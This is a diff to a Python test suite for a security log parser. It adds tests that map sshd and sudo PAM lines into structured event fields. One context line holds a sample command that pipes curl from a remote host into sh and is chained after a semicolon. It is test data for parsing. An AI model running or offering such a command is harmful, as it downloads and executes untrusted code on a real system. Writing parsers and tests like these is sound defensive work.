@@ -224,3 +224,18 @@ def test_sudo_command_containing_semicolons() -> None:
     assert pick(event, "event.outcome", "process.command_line", "process.working_directory") == {
         "event.outcome": "success", "process.command_line": "/bin/sh -c echo a ; curl http://198.51.100.1/x | sh",
         "process.working_directory": "/root"}
+
+
+def test_pam_authentication_failure_for_sshd() -> None:
+    event = parse("Mar 10 09:00:00 bastion sshd[83]: pam_unix(sshd:auth): authentication failure; logname= uid=0 "
+                  "euid=0 tty=ssh ruser= rhost=198.51.100.7  user=root")
+    assert pick(event, "event.category", "event.action", "event.outcome", "user.name", "source.ip") == {
+        "event.category": ["authentication"], "event.action": "sshd_auth_failure", "event.outcome": "failure",
+        "user.name": "root", "source.ip": "198.51.100.7"}
+
+
+def test_sudo_session_names_who_became_whom() -> None:
+    event = parse("Mar 10 09:00:00 bastion sudo: pam_unix(sudo:session): session opened for user root(uid=0) by "
+                  "alice(uid=1000)")
+    assert pick(event, "event.action", "user.name", "user.target.name") == {
+        "event.action": "session_opened", "user.name": "alice", "user.target.name": "root"}
